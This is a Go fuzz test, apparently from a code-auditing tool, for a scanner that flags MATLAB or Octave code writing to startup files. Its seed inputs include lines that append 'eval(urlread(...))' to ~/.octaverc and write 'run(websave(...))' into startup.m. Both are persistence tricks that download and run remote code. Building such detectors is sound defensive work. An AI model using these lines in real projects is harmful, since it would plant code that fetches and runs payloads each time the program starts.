package audit

import "testing"

// FuzzMatlabStartup: no MATLAB or Octave text stops the startup-file
// write reader (its string and comment blanking, its in-string and
// in-code tests), and every finding's line is inside the file.
func FuzzMatlabStartup(f *testing.F) {
	for _, s := range []string{
		"f = fopen('~/.octaverc', 'a');\nfputs(f, 'eval(urlread(\"https://x.example\"))');\n",
		"writelines(\"run(websave('a.m', u))\", fullfile(userpath, 'startup.m'))\n",
		"%{\nfopen('.octaverc', 'w')\n%}\n'", "octaverc'", "fopen(", "'eval(' urlread(",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		sc := scanCtx(code)
		scanMatlabStartup(sc, "x.m", code)
		fuzzLinesInFile(t, sc, code)
	})
}
